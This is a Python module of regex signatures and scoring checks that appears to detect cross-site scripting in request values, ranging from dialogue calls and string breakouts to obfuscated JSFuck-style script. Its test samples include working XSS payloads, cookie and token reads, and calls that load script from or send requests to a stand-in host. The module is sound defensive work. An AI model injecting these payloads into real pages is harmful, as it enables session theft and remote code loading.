"""Script without markup: ways out of a string of a page's script, calls of dialogues, the page and window reached in odd ways."""

from __future__ import annotations

import re

from apitrail.inspect.attacks.families.script_code import mentioned, plain, program, prose, runs
from apitrail.inspect.attacks.families.wording import prose as sentences
from apitrail.inspect.attacks.signature import Signature
from apitrail.inspect.attacks.values import Value

_ARGUMENT = re.compile(
    r"\s*(?:[\"'`/\\%,]|-?\d|0x|null|undefined|true|\{|document|window|location|self|top|origin|"
    r"this|name|string\b|url\b|x\b|\(|[)`]|atob|eval|\[|\w{1,12}\)?;?$|\$)",
    re.IGNORECASE,
)
_OUT_OF_STRING = re.compile(r"[\"'`\\]|[;)}\]]\s*$|^[\s)}\];]*[-+*/;,|&]")
_JOINED = re.compile(
    r"[\"'`]\s*\+|\+\s*[\"'`]|\.concat\(|\.source|\[\s*(?:[\"'`/(!+]|\w+\s*[+(])|\$\{|atob|"
    r"fromcharcode|\\x|\\u|/\*",
    re.IGNORECASE,
)
_SINK = re.compile(
    r"(?<![\w$.])(?:alert|confirm|prompt|eval|function|settimeout|setinterval|import|fetch|"
    r"document|location|window|top|self|parent|"
    r"globalthis|this|atob|new\s+\w+|name|xmlhttprequest|print|throw|onerror|write|\$|jquery)(?![\w$])",
    re.IGNORECASE,
)
_ENDED = re.compile(r"//[^\n]{0,60}$|<!--|-->|[-+*/;,|&^]\s*[\"'`]|/\*|;?\s*[\"'`]?\s*$")


def _dialogue(value: Value, start: int, end: int) -> float:
    """A dialogue opened with something that proves: a number, the page, nothing; not as a line of a program or in prose."""
    text = value.text
    if not _ARGUMENT.match(plain(text[end : end + 80])) or mentioned(text, start, end):
        return 0.0
    if text[end - 2 : end - 1].isspace() and text[end : end + 1].isalpha():
        return 0.0
    before = text[:start][-200:]
    if value.place == "body":
        before = before.rpartition(">")[2]
    out = bool(before.strip()) and bool(_OUT_OF_STRING.search(before.rstrip()))
    if prose(text, start, end):
        return 0.75 if out and start < 40 else 0.3
    if program(text, start) and not out:
        return 0.4
    alone = not before.strip() or out or before.rstrip()[-1:] in "=({[;,>+-*/&|!~^:?."
    return 0.85 if alone else 0.4


def _out_of_string(value: Value, start: int, end: int) -> float:
    """A quote that closes a string the value never opened, then script that calls or assigns."""
    text = value.text
    quote = text[start]
    if start > 300 or quote in text[:start].replace("\\" + quote, "") or prose(text, start, end):
        return 0.0
    if text[:start].strip() and text[start - 1] in " \t\n([{=,:+>":
        return 0.0  # opens a string of its own
    rest = text[start + 1 : start + 400]
    if not _SINK.search(rest[:200]):
        return 0.0
    sure = runs(rest)
    if sure < 0.8 or (rest[:1] == "," and '":' in rest):
        return 0.0
    return 0.85 if _ENDED.search(rest) or rest.count(quote) % 2 else 0.6


def _window(value: Value, start: int, end: int) -> float:
    """A member of the window or the page by a computed name."""
    text = value.text
    behind = plain(text[end - 1 : end + 200])
    if mentioned(text, start, end) or prose(text, start, end) or not re.match(r"\[\s*[\"'`/(\\!+$\w\[]", behind):
        return 0.0
    inside = behind[1:60].partition("](" if behind[1:2] == "[" else "]")[0]
    if _JOINED.search(inside):
        return 0.9
    if re.match(
        r"\s*[\"'`]?(?:alert|eval|confirm|prompt|document|cookie|location|settimeout|constructor|"
        r"function|write|\$)\b",
        inside,
        re.IGNORECASE,
    ):
        return 0.85
    return 0.8 if re.search(r"\]\s*(?:\?\.)?[(`]", behind[:80]) and not program(text, start) else 0.3


def _page(value: Value, start: int, end: int) -> float:
    """What belongs to the page, read or written by a short value that is nothing but script."""
    text = value.text
    if mentioned(text, start, end) or prose(text, start, end) or ("torage" in text[start:end] and sentences(text)):
        return 0.0
    sure = 0.75 if len(text) < 300 else 0.5
    if program(text, start):
        return 0.35
    return sure if start < 200 else 0.4


def _built(value: Value, start: int, end: int) -> float:
    """Code that is put together from pieces and then run."""
    text = value.text
    if mentioned(text, start, end):
        return 0.0
    word, inside = text[start:end], plain(text[end : end + 200])
    if "constructor" in word.lower() or "fromcharcode" in word.lower():
        return 0.5 if prose(text, start, end) else 0.85
    if _keyword(word, inside) or prose(text, start, end):
        return 0.0
    if _JOINED.search(inside) or _FROM_PAGE.match(inside):
        return 0.85 if not program(text, start) else 0.6
    alone = start == 0 or text[:start].rstrip()[-1:] in "\"'`;=(}){,>+-"
    return 0.75 if len(text) < 120 and alone and not program(text, start) else 0.3


def _keyword(word: str, inside: str) -> bool:
    """Whether a word is the keyword of a function or of an import of one's own, or stands in prose with a bracket after it."""
    if word.startswith("import"):
        return bool(_OWN_MODULE.match(inside))
    return word.startswith("function") or (word.startswith("Function") and word[-2:-1].isspace())


_FROM_PAGE = re.compile(
    r"\s*[\"'`(]*\s*(?:name|location|url|document|window|self|top|atob|alert|unescape|decodeuri|string\.|this)", re.IGNORECASE
)


def _passed(value: Value, start: int, end: int) -> float:
    """A dialogue or evaluation that is handed to something that will call it."""
    text = value.text
    return 0.0 if mentioned(text, start, end) or prose(text, start, end) else 0.4 if program(text, start) else 0.85


def _pieces(value: Value, start: int, end: int) -> float:
    """A name of the window or the page that is written in pieces."""
    text = value.text
    piece = text[max(0, start - 60) : end + 60]
    joined = _PIECES.sub("", piece)
    return 0.85 if len(_HIDDEN.findall(joined)) > len(_HIDDEN.findall(piece)) and not prose(text, start, end) else 0.0


_PIECES = re.compile(r"[\"'`]\s{0,3}(?:\+\s{0,3}[\"'`]|\.concat\([\"'`])")
_HIDDEN = re.compile(
    r"alert|confirm|prompt|eval|cookie|constructor|javascript|document|location|script|onload|"
    r"onerror|function",
    re.IGNORECASE,
)


_OWN_MODULE = re.compile(r"['\"`](?:\.|/(?!/)|@|[\w-]+/|[\w-]+['\"`])")


def _signs_only(value: Value, start: int, end: int) -> float:
    """Script written with brackets, signs and no letters."""
    piece = value.text[start:end]
    return 0.9 if len(set(piece) & set("[]()!+{}")) >= 4 or "![]" in piece else 0.0


def _sign_a_line(value: Value, start: int, end: int) -> float:
    """Script of single signs, each on a line of its own."""
    piece = value.text[start:end]
    return 0.85 if sum(map(piece.count, "[](){}!+")) * 4 >= len(piece) / 2 else 0.0


_CM = r"(?:[\s)]|/\*[^*]*\*/)*"

SIGNATURES: tuple[Signature, ...] = (
    Signature(
        "xss-dialogue",
        "xss",
        "script",
        r"\b(?:alert|confirm|prompt)" + _CM + r"(?:\?\.|\.(?:call|apply|bind)\s*|<[a-z/]*>)?[(`]",
        check=_dialogue,
        fires=("alert(document.domain)", "'-confirm`1`-'", "x;(prompt)(1)", "[7].map(alert)||alert?.(7)", '";alert/**/(2)//'),
        silent=(
            "Please confirm (by mail) that the alert (see above) is gone",
            "the alert(s) of this service are sent to the team when it is down",
            "prompt (required)",
            "function save() {\n  confirm(message);\n}",
        ),
    ),
    Signature(
        "xss-out-of-string",
        "xss",
        "breakout",
        r"[\"'`]\s{0,3}[\s)}\];]{0,6}(?:[-+*/;,|&^%]|\?\?|\r|\n|&&|\bin\b|"
        r"instanceof)[\s\S]{0,3}?[\w$(\[{`!/\\+-]",
        check=_out_of_string,
        fires=(
            "';location=name//",
            '"-alert(1)-"',
            "'});fetch('//e.example/');//",
            "\\';top.x=document.cookie;//",
            "`+import('//e.example')+`",
        ),
        silent=(
            "it's - as they say - a (nice) day",
            'a "quoted", (and) bracketed text',
            "rock'n'roll; top (of) the pops",
            '"name", "value"',
        ),
    ),
    Signature(
        "xss-window",
        "xss",
        "script",
        r"\b(?:window|self|top|parent|frames|globalThis|this|document|content)" + _CM + r"(?:\?\.\s?)?\[",
        check=_window,
        fires=(
            "window['al'+'ert'](1)",
            "top[/al/.source+/ert/.source](2)",
            "self/**/['document']['cookie']",
            "(document)['cookie']",
        ),
        silent=("top[10] of the list", "self[index]", "parent['name'] = row"),
    ),
    Signature(
        "xss-page",
        "xss",
        "script",
        r"\bdocument" + _CM + r"\.\s*(?:/\*[^*]*\*/)?\s*(?:cookie|domain|write(?:ln)?\s*\(|location|body\.(?:append|inner)|"
        r"documentElement\.|URL\b|referrer|createElement\s*\(|querySelector\s*\([^)]*\)\s*\.\w*\s*=)"
        r"|\bwindow" + _CM + r"\.\s*(?:location|open\s*\(|name\b)|\blocation\s*(?:\.\s*(?:href|hash|assign|"
        r"replace)\s*[=(]|=\s*[`'\"\w]+[/:.(`])|\.(?:inner|outer)HTML"
        r"\s*=|\bnew\s+Image\b[^;]*\.src\s*=|\$\.getScript\s*\(|\b(?:local|session)Storage\s*(?:\.\s*(?:getItem|setItem"
        r"|clear)\s*\(|\[\s*[\"'])",
        check=_page,
        fires=(
            "x=document.cookie",
            "document /*x*/ . cookie",
            "location.href='//e.example'",
            "new Image().src='//e.example/'",
            "document.querySelector('p').textContent='x'",
            "localStorage.getItem('token')",
        ),
        silent=(
            "The document.cookie property is what scripts of the page read and write, so keep it small.",
            "document.title",
            "the document location of an office",
            "const here = window.location;\nconsole.log(here)",
        ),
    ),
    Signature(
        "xss-built-code",
        "xss",
        "script",
        r"\bconstructor\s*(?:\.|\[\s?[\"'`])\s*constructor|(?:\[[\"'`]|"
        r"\.)fromCharCode(?:[\"'`]\])?\s*[(.\[]|\b(?:eval|import|Function|set(?:Timeout|Interval)|"
        r"execScript|Reflect\.\w+(?:\.\w+)?)" + _CM + r"(?:\?\.|\.(?:call|apply)\s?)?[(`]",
        check=_built,
        fires=(
            "eval('al'+'ert(1)')",
            "[].constructor.constructor('x()')()",
            "eval(String.fromCharCode(97,108))",
            "setTimeout`name`",
            "Function(atob(name))()",
            "import('//e.example/x.js')",
        ),
        silent=(
            "We evaluate (see eval) the model",
            "The function (a, b) of this module is to be called when you are in the loop",
            "function go() {\n  setTimeout(done, 100);\n}",
        ),
    ),
    Signature(
        "xss-passed",
        "xss",
        "script",
        r"\.\s*\w+\s*\(\s*(?:alert|confirm|prompt|eval)"
        r"\s*[),.]|(?:\bonerror|\btoString|\bvalueOf|\]|\$)\s*=\s*(?:alert|confirm|prompt|"
        r"eval)\b|\$\{\s*(?:alert|confirm|prompt|eval)\s*\}",
        check=_passed,
        fires=("[1].find(alert)", "onerror=alert;throw 1", "x={toString:1};x.toString=confirm;x+''"),
        silent=("level.is(alerting)", "type=alert", "if you send(alert) to the queue, it is read by the worker that is on duty"),
    ),
    Signature(
        "xss-pieces",
        "xss",
        "script",
        r"[\"'`]\s*(?:\+\s*[\"'`]|\.concat\([\"'`])",
        check=_pieces,
        fires=("x['al'+'ert']`1`", "a='ev'+'al'", "top['coo'.concat('kie')]"),
        silent=("'a' + 'b'", "SELECT 'x' + 'y'", "total = 'alert ' + name"),
    ),
    Signature(
        "xss-faces-only",
        "xss",
        "script",
        r"\$\s*=\s*~\s*\[\s*\]\s*;\s*\$\s*=|(?:ﾟωﾟﾉ|ﾟДﾟ\s*\)|o\^_\^o\s*\)?)\s*(?:=\s*[/\[({o]|\[\s*['\"(ﾟ]|\.\s*['\"])",
        0.85,
        fires=('$=~[];$={___:++$,$$$$:(![]+"")[$]}', "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_'];", "(ﾟДﾟ)['c'] = ('a')"),
        silent=("(ﾟДﾟ) what", "x $= y", "hello (^_^) o^_^o"),
    ),
    Signature(
        "xss-sign-a-line",
        "xss",
        "script",
        r"(?:[\w\[\](){}!+=,.$][\r\n]+ ?){20}",
        check=_sign_a_line,
        fires=("\n".join("([,O,B,J]=[]+{},[T,R]=[!!O]+!O+B)[X=C+O]"), "\n".join("[][(![]+[])[+[]]+(!![]+[])[+!+[]]]")),
        silent=("\n".join("abcdefghijklmnopqrstuvwxyz"), "\n".join("1,2,3,4,5,6,7,8,9,10,11,12")),
    ),
    Signature(
        "xss-signs-only",
        "xss",
        "script",
        r"(?:!\[\]|!\{\}|\+\[\])[\[\](){}!+\s]+[\[\](){}!+]",
        check=_signs_only,
        fires=("[][(![]+[])[+[]]+(!![]+[])[+!+[]]]", "(![]+[])[+!+[]]"),
        silent=("[ ] [ ] [x]", "f(!a) + [] + {}"),
    ),
)
